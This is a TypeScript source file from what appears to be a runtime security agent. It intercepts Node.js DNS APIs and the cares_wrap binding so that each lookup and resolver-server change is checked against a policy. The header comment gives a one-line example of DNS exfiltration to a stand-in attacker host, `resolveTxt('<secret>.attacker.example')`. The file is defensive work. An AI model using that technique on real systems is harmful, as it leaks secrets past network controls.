/**
 * DNS (contract §1 `network`, operation `dns`, target = the name queried). A query is itself
 * outbound traffic: `resolveTxt('<secret>.attacker.example')` exfiltrates through any resolver.
 *
 * - Public APIs, so a denial fails the way each API fails (callback error on the next tick,
 *   rejected promise, or a throw for the synchronous `setServers`): `dns.lookup`, `lookupService`,
 *   every `resolve*`/`reverse` of `dns.Resolver.prototype` and `dns.promises.Resolver.prototype`
 *   (so every Resolver instance), the module-level bound copies of them (`dns.resolveTxt`...,
 *   bound to the original methods at load), and `setServers` (a new DNS server is a new UDP peer).
 * - The cares_wrap binding as the safety net and the place we learn addresses: `getaddrinfo`,
 *   `getnameinfo`, every `ChannelWrap.prototype.query*`, `getHostByAddr` and `setServers`.
 * A lookup Node makes for a connect that was already judged by name (see network/intents.ts) is not
 * judged again.
 */
import type { Operation } from '@appdefender/policy';
import { isAgentWork } from '../agent-work.js';
import { getBinding, patchMethod } from '../bindings.js';
import { builtin } from '../builtins.js';
import type { AgentContext } from '../context.js';
import { judge } from '../enforce.js';
import { learnAddresses, resolveAllowedNames } from '../network/address-learning.js';
import { UV_EACCES } from '../network/errno.js';
import { isJudgedHost, withJudgedHost } from '../network/intents.js';
import type { HookDescriptor } from './registry.js';

type AnyFunction = (this: unknown, ...args: unknown[]) => unknown;

export const hook: HookDescriptor = { name: 'dns', category: 'network', install };

// loaded at install, not at agent load (see builtins.ts)
let dns: typeof import('node:dns');
let net: typeof import('node:net');

/** Resolver methods and the record type each queries (for the event's rrtype). */
const RESOLVER_METHODS: Readonly<Record<string, string>> = {
  resolve: 'A',
  resolve4: 'A',
  resolve6: 'AAAA',
  resolveAny: 'ANY',
  resolveCaa: 'CAA',
  resolveCname: 'CNAME',
  resolveMx: 'MX',
  resolveNaptr: 'NAPTR',
  resolveNs: 'NS',
  resolvePtr: 'PTR',
  resolveSoa: 'SOA',
  resolveSrv: 'SRV',
  resolveTxt: 'TXT',
  reverse: 'PTR',
};

const BINDING_QUERIES: Readonly<Record<string, string>> = {
  queryAny: 'ANY',
  queryA: 'A',
  queryAaaa: 'AAAA',
  queryCaa: 'CAA',
  queryCname: 'CNAME',
  queryMx: 'MX',
  queryNs: 'NS',
  queryTxt: 'TXT',
  querySrv: 'SRV',
  queryPtr: 'PTR',
  queryNaptr: 'NAPTR',
  querySoa: 'SOA',
  getHostByAddr: 'PTR',
};

let context: AgentContext;

function install(agentContext: AgentContext): void {
  dns = builtin<typeof import('node:dns')>('node:dns');
  net = builtin<typeof import('node:net')>('node:net');
  context = agentContext;
  const originalLookup = dns.lookup;
  patchBinding();

  patchMethod(dns, 'lookup', (original) => wrapCallbackQuery(original, lookupQuery));
  patchMethod(dns, 'lookupService', (original) => wrapCallbackQuery(original, lookupServiceQuery));
  patchMethod(dns.promises, 'lookup', (original) => wrapPromiseQuery(original, lookupQuery));
  patchMethod(dns.promises, 'lookupService', (original) => wrapPromiseQuery(original, lookupServiceQuery));
  for (const [method, rrtype] of Object.entries(RESOLVER_METHODS)) {
    const query = resolverQuery(method, rrtype);
    patchMethod(dns.Resolver.prototype, method, (original) => wrapCallbackQuery(original, query));
    patchMethod(dns, method, (original) => wrapCallbackQuery(original, query));
    patchMethod(dns.promises.Resolver.prototype, method, (original) => wrapPromiseQuery(original, query));
    patchMethod(dns.promises, method, (original) => wrapPromiseQuery(original, query));
  }
  // dns.setServers / dns.promises.setServers go through a new Resolver's setServers
  patchMethod(Object.getPrototypeOf(dns.Resolver.prototype) as object, 'setServers', wrapSetServers);

  resolveAllowedNames(context, originalLookup);
}

/** What a public call queries: the op to judge, or undefined to leave the call to Node as it is. */
type QueryOf = (args: unknown[]) => Operation | undefined;

function lookupQuery(args: unknown[]): Operation | undefined {
  const [hostname] = args;
  // no query for an IP literal or an empty name; Node answers those itself
  if (typeof hostname !== 'string' || hostname === '' || net.isIP(hostname)) return undefined;
  if (isJudgedHost(hostname)) return undefined;
  return { category: 'network', operation: 'dns', host: hostname };
}

function lookupServiceQuery(args: unknown[]): Operation | undefined {
  const [address] = args;
  if (typeof address !== 'string' || !net.isIP(address)) return undefined;
  return { category: 'network', operation: 'dns', host: address, rrtype: 'PTR' };
}

function resolverQuery(method: string, rrtype: string): QueryOf {
  return (args) => {
    const [name, second] = args;
    if (typeof name !== 'string' || isJudgedHost(name)) return undefined;
    const type = method === 'resolve' && typeof second === 'string' ? second.toUpperCase() : rrtype;
    return { category: 'network', operation: 'dns', host: name, rrtype: type };
  };
}

function hostOf(op: Operation): string | undefined {
  return op.category === 'network' && op.operation === 'dns' ? op.host : undefined;
}

function wrapCallbackQuery(original: AnyFunction, queryOf: QueryOf): AnyFunction {
  return function query(this: unknown, ...args: unknown[]) {
    if (isAgentWork()) return Reflect.apply(original, this, args);
    const op = queryOf(args);
    const callback = args[args.length - 1];
    if (!op || typeof callback !== 'function') return Reflect.apply(original, this, args);
    const { error } = judge(op);
    if (error) {
      process.nextTick(callback as AnyFunction, error);
      return {};
    }
    return withJudgedHost(hostOf(op), () => Reflect.apply(original, this, args));
  };
}

function wrapPromiseQuery(original: AnyFunction, queryOf: QueryOf): AnyFunction {
  return function query(this: unknown, ...args: unknown[]) {
    if (isAgentWork()) return Reflect.apply(original, this, args);
    const op = queryOf(args);
    if (!op) return Reflect.apply(original, this, args);
    const { error } = judge(op);
    if (error) return Promise.reject(error);
    return withJudgedHost(hostOf(op), () => Reflect.apply(original, this, args));
  };
}

/** `host`, `host:port`, `[v6]`, `[v6]:port` → address and port, as Node's setServers reads them. */
export function parseServer(server: string): { ip: string; port: number } | undefined {
  if (IPV4.test(server) || IPV6.test(server)) return { ip: server, port: 53 };
  const bracketed = /^\[([^\]]+)\](?::(\d+))?$/.exec(server);
  if (bracketed?.[1]) return { ip: bracketed[1], port: bracketed[2] ? Number(bracketed[2]) : 53 };
  const withPort = /^([^:]+):(\d+)$/.exec(server);
  if (withPort?.[1] && withPort[2]) return { ip: withPort[1], port: Number(withPort[2]) };
  return undefined;
}

// shapes only: Node's setServers validates the addresses itself and rejects what is not one
const IPV4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;
const IPV6 = /^[0-9a-f]*:[0-9a-f:.]*$/i;

let judgingSetServers = 0;

function wrapSetServers(original: AnyFunction): AnyFunction {
  return function setServers(this: unknown, ...args: unknown[]) {
    if (isAgentWork() || !Array.isArray(args[0])) return Reflect.apply(original, this, args);
    for (const server of args[0]) {
      const parsed = typeof server === 'string' ? parseServer(server) : undefined;
      if (!parsed) continue; // Node rejects it with its own error
      const { error } = judge(
        { category: 'network', operation: 'connect', protocol: 'udp', ip: parsed.ip, port: parsed.port },
        { api: 'dns.setServers' },
      );
      if (error) throw error;
    }
    judgingSetServers++;
    try {
      return Reflect.apply(original, this, args);
    } finally {
      judgingSetServers--;
    }
  };
}

function patchBinding(): void {
  const cares = getBinding('cares_wrap') as
    | { ChannelWrap?: { prototype: object }; getaddrinfo?: unknown; getnameinfo?: unknown }
    | undefined;
  if (!cares) return;
  patchMethod(
    cares,
    'getaddrinfo',
    (original) =>
      function getaddrinfo(this: unknown, ...args: unknown[]) {
        const [request, hostname] = args;
        if (typeof hostname === 'string') learnOnComplete(request, hostname);
        if (isAgentWork() || typeof hostname !== 'string' || isJudgedHost(hostname)) {
          return Reflect.apply(original, this, args);
        }
        const { error } = judge({ category: 'network', operation: 'dns', host: hostname });
        return error ? UV_EACCES : Reflect.apply(original, this, args);
      },
  );
  patchMethod(
    cares,
    'getnameinfo',
    (original) =>
      function getnameinfo(this: unknown, ...args: unknown[]) {
        const [, address] = args;
        if (isAgentWork() || typeof address !== 'string') return Reflect.apply(original, this, args);
        const { error } = judge({ category: 'network', operation: 'dns', host: address, rrtype: 'PTR' });
        return error ? UV_EACCES : Reflect.apply(original, this, args);
      },
  );
  const channel = cares.ChannelWrap?.prototype;
  for (const [method, rrtype] of Object.entries(BINDING_QUERIES)) {
    patchMethod(
      channel,
      method,
      (original) =>
        function query(this: unknown, ...args: unknown[]) {
          const [, name] = args;
          if (isAgentWork() || typeof name !== 'string' || isJudgedHost(name)) {
            return Reflect.apply(original, this, args);
          }
          const { error } = judge({ category: 'network', operation: 'dns', host: name, rrtype });
          return error ? UV_EACCES : Reflect.apply(original, this, args);
        },
    );
  }
  patchMethod(
    channel,
    'setServers',
    (original) =>
      function setServers(this: unknown, ...args: unknown[]) {
        if (isAgentWork() || judgingSetServers > 0 || !Array.isArray(args[0])) {
          return Reflect.apply(original, this, args);
        }
        for (const entry of args[0]) {
          const [, ip, port] = Array.isArray(entry) ? entry : [];
          if (typeof ip !== 'string') continue;
          const op: Operation = { category: 'network', operation: 'connect', protocol: 'udp', ip };
          if (typeof port === 'number') op.port = port;
          if (judge(op, { api: 'setServers' }).error) return UV_EACCES;
        }
        return Reflect.apply(original, this, args);
      },
  );
}

/**
 * Only names that are granted by name (allowedDomains, cloud endpoints, the runtime) can grant an
 * address; learning any other name would change no verdict, so it is not worth a wrapper.
 */
function grantsByName(hostname: string): boolean {
  try {
    return (
      context.decider.decide({ category: 'network', operation: 'dns', host: hostname }).verdict === 'grant'
    );
  } catch {
    return false;
  }
}

/** Learns the answer of a system-resolver lookup when it completes (see address-learning.ts). */
function learnOnComplete(request: unknown, hostname: string): void {
  if (!request || typeof request !== 'object' || !grantsByName(hostname)) return;
  const target = request as { oncomplete?: unknown };
  const oncomplete = target.oncomplete;
  if (typeof oncomplete !== 'function') return;
  target.oncomplete = function learnThenComplete(this: unknown, ...args: unknown[]) {
    const [status, addresses] = args;
    if (!status) {
      try {
        learnAddresses(context, hostname, addresses);
      } catch {
        // learning is an optimisation of later verdicts; the lookup's own result is what matters
      }
    }
    return Reflect.apply(oncomplete, this, args);
  };
}
